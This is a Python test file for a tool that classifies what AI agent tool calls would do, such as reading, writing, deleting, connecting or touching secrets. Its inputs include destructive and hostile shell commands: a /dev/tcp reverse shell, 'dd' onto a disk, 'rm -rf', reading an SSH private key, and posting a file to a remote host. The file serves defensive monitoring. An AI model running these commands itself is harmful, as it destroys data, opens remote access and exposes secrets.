"""The facts of tool calls, one kind after another. Nothing is run, and only the links are real."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from anyhook.programs.facts import Facts
from anyhook.rules.calls import facts_of
from each_of import each_of

LINES: list[tuple[str, dict[str, list[str]]]] = [
    ("rm -rf ~/x && cp a b", {"deletes": ["/home/me/x"], "reads": ["/p/a"], "writes": ["/p/b"]}),
    ("echo x > a; echo y >> b 2>/dev/null", {"writes": ["/p/a", "/p/b"]}),
    ("sort < in | tee -a log", {"reads": ["/p/in"], "writes": ["/p/log"]}),
    ("sed -i.bak s/a/b/ f", {"reads": ["/p/f"], "writes": ["/p/f"]}),
    ("sed s/a/b/ f", {"reads": ["/p/f"]}),
    ("mv x y z", {"deletes": ["/p/x", "/p/y"], "writes": ["/p/z/x", "/p/z/y"]}),
    ("cp -t /q a", {"reads": ["/p/a"], "writes": ["/q/a"]}),
    ("curl --output-dir /q -o a http://h/b; curl -o b http://h/b",
        {"writes": ["/q/a", "/p/b"], "connects": ["http://h/b"]}),
    ("aria2c --dir=/q -o a http://h/b", {"writes": ["/q", "/q/a"], "connects": ["http://h/b"]}),
    ("curl -s --output-dir /q -o - http://h/b", {"connects": ["http://h/b"]}),
    ("dd if=/dev/zero of=/dev/sda bs=1M", {"writes": ["/dev/sda"]}),
    ("truncate -s 0 f; touch g", {"writes": ["/p/f", "/p/g"], "deletes": ["/p/f"]}),
    ("> a; echo x > b; : > c; cat /dev/null > d; cp /dev/null e; ls > f; sudo true > /dev/null",
        {"writes": [f"/p/{name}" for name in "abcdef"], "deletes": [f"/p/{name}" for name in "acde"]}),
    ("tar xzf a.tgz -C /opt", {"reads": ["/p/a.tgz"], "writes": ["/opt/**"]}),
    ("unzip a.zip -d /opt", {"reads": ["/p/a.zip"], "writes": ["/opt", "/opt/**"]}),
    ("find . -name '*.pyc' -delete", {"reads": ["/p"], "deletes": ["/p/**/*.pyc"]}),
    ("git clean -fdx", {"cleans": ["/p"]}),
    ("git clean -fdx build", {"deletes": ["/p/build"]}),
    ("git -C /q checkout -- a", {"writes": ["/q/a"]}),
    ("git rm -r a", {"deletes": ["/p/a"]}),
    ("git restore --staged a", {}),
    ("chmod 755 a", {"makes_executable": ["/p/a"], "changes": ["/p/a"]}),
    ("chmod 600 a", {"changes": ["/p/a"]}),
    ("curl -o a https://x.io/b", {"writes": ["/p/a"], "connects": ["https://x.io/b"]}),
    ("curl -d @a https://x.io", {"reads": ["/p/a"], "connects": ["https://x.io"]}),
    ("wget -qO- https://x.io/b", {"connects": ["https://x.io/b"]}),
    ("rsync -a --delete a/ host:/b", {"reads": ["/p/a"], "connects": ["host:/b"]}),
    ("bash -i >& /dev/tcp/1.2.3.4/99 0>&1", {"connects": ["tcp://1.2.3.4:99"]}),
    ("ssh me@host 'rm -rf /'", {"connects": ["me@host"]}),
    ("cat ~/.ssh/id_rsa", {"reads": ["/home/me/.ssh/id_rsa"], "secrets": ["private key"]}),
    ("env | sort", {"secrets": ["environment"]}),
    ("rm -rf $X/*", {"deletes": ["$X/*"], "unknown": ["path from $X/*"]}),
    ("python3 -c 'import shutil as s; s.rmtree(\"/q\")'", {"deletes": ["/q"]}),
    ("python3 - <<'E'\nfrom pathlib import Path\np = Path('a') / 'b'\np.write_text('x')\nE", {"writes": ["/p/a/b"]}),
    ("python3 -c 'open(\"a\").read(); open(\"b\", \"w\")'", {"reads": ["/p/a"], "writes": ["/p/b"]}),
    ("python3 -c 'import os; os.system(\"rm -rf /q\")'", {"deletes": ["/q"]}),
    ("python3 -c 'from pathlib import Path; [p.unlink() for p in Path(\"a\").glob(\"*.o\")]'",
        {"deletes": ["/p/a/*.o"]}),
    ("python3 - <<'E'\nimport glob, os\nfrom pathlib import Path\nfor p in Path('/q').rglob('*'):\n    p.unlink()\n"
        "for p in glob.glob('/r/*'):\n    os.remove(p)\nfor p in Path('/s').iterdir():\n    p.unlink()\nE",
        {"deletes": ["/q/**/*", "/r/*", "/s/*"]}),
    ("git -c clean.requireForce=false clean -d", {"cleans": ["/p"]}),
    ("sqlite3 a.db .tables 'select 1'; sqlite3 -readonly b.db 'drop table x'", {"reads": ["/p/a.db", "/p/b.db"]}),
    ("sqlite3 a.db 'select 1; drop table x'", {"reads": ["/p/a.db"], "writes": ["/p/a.db"]}),
    ("sqlite3 -readonly a.db <<'E'\n.once /q\nselect writefile('/r', 1);\nE",
        {"reads": ["/p/a.db"], "writes": ["/q", "/r"]}),
    ("sqlite3 -readonly a.db \"vacuum into '/q'\"", {"reads": ["/p/a.db"], "writes": ["/q"]}),
    ("psql -c '\\o /q' -c 'select 1'; psql -c '\\copy t from b'", {"reads": ["/p/b"], "writes": ["/q"]}),
    ("mysql -e \"select 1 into outfile '/q'\"", {"writes": ["/q"]}),
    ("emacs --batch --eval '(write-region \"\" nil \"/q\")' --eval '(delete-file \"/r\")'",
        {"writes": ["/q"], "deletes": ["/r"]}),
    ("tar xf a.tar -C /q b", {"reads": ["/p/a.tar"], "writes": ["/q/b"]}),
    ("cpio -i -D /q b < a", {"reads": ["/p/a"], "writes": ["/q", "/q/b"]}),
    ("git apply --include='b/*' x.diff", {"writes": ["/p/b/*"]}),
    ("perl -e 'system \"touch\", \"/q\"'", {"writes": ["/q"]}),
    ("node -e 'require(\"fs\")[\"rmSync\"](\"/q\")'", {"deletes": ["/q"]}),
    ("node -e 'require(\"fs\").rmSync(\"/q\")'", {"deletes": ["/q"]}),
    ("perl -e 'unlink(\"/q\"); open(F, \">a\")'", {"deletes": ["/q"], "writes": ["/p/a"]}),
    (
        "apply_patch <<'E'\n*** Begin Patch\n*** Update File: a\n*** Delete File: b\n*** End Patch\nE",
        {"writes": ["/p/a"], "deletes": ["/p/b"]},
    ),
    ("echo rm -rf / > /dev/null; grep 'rm -rf /q' f", {"reads": ["/p/f"]}),
    ("git commit -m 'rm -rf / > /etc/passwd'", {}),
    ("awk '{print > \"out\"}' in", {"reads": ["/p/in"], "writes": ["/p/out"]}),
    ("psql -c '\\! rm x'", {"deletes": ["/p/x"]}),
    ("make -f - <<< $'all:\n\t@rm x'", {"deletes": ["/p/x"]}),
    ("tclsh <<< 'exec rm x'", {"deletes": ["/p/x"]}),
    ("Remove-Item -Path x -Recurse -Force", {"deletes": ["/p/x"]}),
    ("rmdir /s /q x", {"deletes": ["/p/x"]}),
    ("tree -o a; pytest --junitxml=b --cov=c; go test -coverprofile d", {"writes": ["/p/a", "/p/b", "/p/d"]}),
    ("python3 -c 'import os; getattr(os, \"sys\" + \"tem\")(\"rm a\"); os.execlp(\"rm\", \"rm\", \"b\")'",
        {"deletes": ["/p/a", "/p/b"]}),
    ("sort a.csv > a.csv; python3 -c 'open(\"b\", \"w\").close()'",
        {"reads": ["/p/a.csv"], "writes": ["/p/a.csv", "/p/b"], "deletes": ["/p/a.csv", "/p/b"]}),
    ("awk '{c=\"rm \" $1; system(c)}' a; sed 's/x/rm &/e' b",
        {"reads": ["/p/a", "/p/b"], "deletes": ["$__unknown__"], "unknown": ["path from $__unknown__"]}),
    ("curl file:///q/a", {"reads": ["/q/a"], "connects": ["file:///q/a"]}),
    ("find . -name a -not -path ./b -delete", {"reads": ["/p"], "deletes": ["/p/**/a"]}),
    ("tee a < /dev/null; ex -sc '%d|x' b", {"writes": ["/p/a", "/p/b"], "deletes": ["/p/a", "/p/b"]}),
    ("aws s3 cp s3://b/c /q/; scp host:/a/b /q/",
        {"writes": ["/q/c", "/q/b"], "connects": ["s3://b/c", "host:/a/b"]}),
    ("openssl rsa -in server.key", {"reads": ["/p/server.key"], "secrets": ["private key"]}),
]  # fmt: skip
KINDS = ("reads", "writes", "deletes", "makes_executable", "changes", "connects", "secrets", "unknown", "cleans")


def told(found: Facts) -> dict[str, list[str]]:
    return {kind: list(getattr(found, kind)) for kind in KINDS if getattr(found, kind)}


@each_of(("line", "wanted"), LINES, ids=[line for line, _ in LINES])
def test_a_line(line: str, wanted: dict[str, list[str]]) -> None:
    assert told(facts_of("Bash", {"command": line}, cwd="/p", home="/home/me", project="/p")) == wanted


CALLS: list[tuple[str, dict[str, Any], dict[str, list[str]]]] = [
    ("Write", {"file_path": "a", "content": "rm -rf /"}, {"writes": ["/p/a"]}),
    ("Read", {"file_path": "/q/a"}, {"reads": ["/q/a"]}),
    ("edit_file", {"path": "a", "old_text": "x", "new_text": "y"}, {"writes": ["/p/a"]}),
    ("NotebookEdit", {"notebook_path": "a", "new_source": "x"}, {"writes": ["/p/a"]}),
    ("apply_patch", {"input": "*** Begin Patch\n*** Add File: a\n+x\n*** End Patch"}, {"writes": ["/p/a"]}),
    ("mcp__fs__move_file", {"source": "a", "destination": "b"}, {"deletes": ["/p/a"], "writes": ["/p/b"]}),
    ("mcp__fs__delete", {"paths": ["a", "b"]}, {"deletes": ["/p/a", "/p/b"]}),
    ("mcp__fs__write", {"uri": "file:///q/a", "content": ""}, {"writes": ["/q/a"]}),
    ("mcp__run__exec", {"argv": ["rm", "-r", "a b"]}, {"deletes": ["/p/a b"]}),
    ("mcp__run__exec", {"cmd": "rm a", "cwd": "/q"}, {"deletes": ["/q/a"]}),
    ("str_replace_editor", {"command": "create", "path": "/q/a", "file_text": "x"}, {"writes": ["/q/a"]}),
    ("str_replace_editor", {"command": "view", "path": "/q/a"}, {"reads": ["/q/a"]}),
    ("WebFetch", {"url": "https://x.io/a", "prompt": "read it"}, {"connects": ["https://x.io/a"]}),
    ("execute_python", {"code": "open('a', 'w')"}, {"writes": ["/p/a"]}),
    ("mcp__tracker__create_issue", {"title": "rm -rf /", "body": "see /etc/passwd"}, {}),
    ("Task", {"prompt": "rm -rf /", "description": "x"}, {}),
]  # fmt: skip


@each_of(("tool", "given", "wanted"), CALLS)
def test_a_tool(tool: str, given: dict[str, Any], wanted: dict[str, list[str]]) -> None:
    assert told(facts_of(tool, given, cwd="/p", home="/home/me", project="/p")) == wanted


def test_an_agents_own_names() -> None:
    given: dict[str, Any] = {"files": ["a", {"path": "b"}]}
    assert facts_of("read_files", given, cwd="/p", home="/h", project="/p", agent="cline").reads == ("/p/a", "/p/b")


@each_of(
    ("line", "verb", "flags", "args"),
    [
        ("git push -fu origin main", "push", ("--force", "--set-upstream"), ("origin", "main")),
        ("git -c a=b -C /q stash drop", "stash drop", (), ()),
        ("git reset --hard HEAD~1", "reset", ("--hard",), ("HEAD~1",)),
        ("git commit -nm x", "commit", ("--no-verify", "--message"), ()),
        ("git branch -D x", "branch", ("-D",), ("x",)),
    ],
)
def test_git(line: str, verb: str, flags: tuple[str, ...], args: tuple[str, ...]) -> None:
    [found] = facts_of("Bash", {"command": line}, cwd="/p", home="/h", project="/p").git
    assert (found.verb, found.flags, found.args) == (verb, flags, args)


def test_links_are_followed(tmp_path: Path) -> None:
    (tmp_path / "real").mkdir()
    (tmp_path / "link").symlink_to("real")
    found = facts_of("Bash", {"command": "ls > link/../link/a; rm link"}, cwd=str(tmp_path), home="/h", project=None)
    assert found.writes == (f"{tmp_path}/real/a",)
    assert found.deletes == (f"{tmp_path}/link",)  # deleting a link deletes the link itself


def test_what_is_not_read_is_said() -> None:
    found = facts_of("PowerShell", {"command": "Remove-Item x"}, cwd="/p", home="/h", project=None)
    assert found.unknown == ("not read: a line of PowerShell or cmd, `Remove-Item x`",)
    assert found.deletes == ("/p/x",)  # this is the same in every shell
    assert facts_of("Bash", {"command": ["rm", 3]}, cwd="/p", home="/h", project=None).deletes == ("/p/3",)
